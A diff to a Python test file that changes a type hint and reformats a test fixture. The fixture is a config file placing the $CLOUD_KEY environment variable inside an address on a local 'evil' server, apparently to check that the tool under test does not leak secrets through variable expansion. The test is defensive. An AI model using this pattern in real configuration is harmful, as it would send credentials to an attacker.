@@ -2,7 +2,7 @@
 
 import os
 import shutil
-from collections.abc import Callable, Iterator
+from collections.abc import Callable, Generator
 from contextlib import contextmanager
 from dataclasses import dataclass
 from functools import partial
@@ -67,7 +67,7 @@ class _Project:
 
 
 @contextmanager
-def _staged(room: Room) -> Iterator[_Project]:
+def _staged(room: Room) -> Generator[_Project]:
     folder = room.fresh("toy")
     with Puppet(*[answer("done")] * 200) as model, Served("") as evil:
         yield _Project(room, model, evil, app_file(folder), folder)
@@ -159,7 +159,8 @@ def _expanded(project: _Project) -> str:
     """A found file spells variables of the environment within an address and within harmless texts."""
     here = project.fresh()
     here.file.write_text(
-        f'[browser]\nlocale = "${{CLOUD_KEY}}"\nuser_agent = "$CLOUD_KEY"\n[apps]\nmail = "{here.evil.url()}$CLOUD_KEY"\n'
+        f'[browser]\nlocale = "${{CLOUD_KEY}}"\nuser_agent = "$CLOUD_KEY"\n'
+        f'[apps]\nmail = "{here.evil.url()}$CLOUD_KEY"\n'
     )
     done = here.run(environ={"CLOUD_KEY": _KEY})
     shown = here.room.sextant("doctor", "--config", "--json", cwd=here.folder, environ={"CLOUD_KEY": _KEY})
